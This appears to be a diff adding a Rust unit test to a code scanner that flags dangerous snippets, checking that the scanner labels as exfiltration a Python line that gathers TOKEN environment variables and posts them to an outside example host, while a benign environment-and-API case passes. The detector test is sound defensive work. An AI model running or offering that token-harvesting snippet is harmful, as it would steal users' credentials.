@@ -179,3 +179,15 @@ fn text_fetched_from_the_network_and_run() {
     assert!(py("import requests\ncfg = requests.get(\"https://api.example.com/c\").json()\nprint(cfg)\n").is_empty());
     assert!(js("const r = await fetch('https://api.example.com/c');\nconst cfg = JSON.parse(await r.text());").is_empty());
 }
+
+#[test]
+fn secret_variables_harvested_from_the_environment() {
+    assert_eq!(
+        py(
+            "import os, requests\ns = {k: v for k, v in os.environ.items() if \"TOKEN\" in k}\nrequests.post(\"https://v.example.app/c\", json=s)\n"
+        ),
+        [DangerKind::Exfiltration]
+    );
+    // The environment handed to a child process, and an API called.
+    assert!(py("import os, subprocess, requests\nenv = os.environ.copy()\nsubprocess.run([\"make\"], env=env)\nrequests.post(\"https://api.example.com/v1\", json={\"ok\": 1})\n").is_empty());
+}
